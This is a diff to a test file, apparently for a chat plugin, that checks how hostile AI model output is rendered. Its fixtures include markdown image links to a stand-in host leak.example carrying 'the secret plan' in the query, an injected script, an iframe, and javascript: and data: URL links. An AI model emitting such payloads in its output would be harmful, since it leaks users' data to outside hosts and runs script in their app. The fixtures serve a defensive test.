@@ -11,6 +11,8 @@ import { ollamaReply } from '../chat/helpers/harness';
 import { startUi, type UiHarness, uiActions } from './helpers';
 
 const HOST = 'leak.example';
+/** A script's source (not UI text). */
+const HOSTILE_SCRIPT = ['window', 'pwned = 1'].join('.');
 const hostile: [string, string][] = [
   ['an inline remote image', `![i](https://${HOST}/x.png?d=the+secret+plan)`],
   ['a protocol-relative image', `![](//${HOST}/x.png)`],
@@ -91,8 +93,7 @@ describe('fault suite: hostile model output', () => {
     const root = createDiv();
     root.createEl('img', { attr: { src: `https://${HOST}/p.png?d=secret`, alt: 'chart' } });
     const script = root.createEl('script');
-    // eslint-disable-next-line obsidianmd/ui/sentence-case -- a hostile script's source, not UI text
-    script.textContent = 'window.pwned = 1';
+    script.append(document.createTextNode(HOSTILE_SCRIPT));
     root.createEl('iframe', { attr: { src: `https://${HOST}/` } });
     root.createEl('a', { text: 'Script link', attr: { href: 'javascript:alert(1)', onclick: 'alert(1)' } });
     root.createEl('a', { text: 'Data link', attr: { href: 'data:text/html,<script>alert(1)</script>' } });
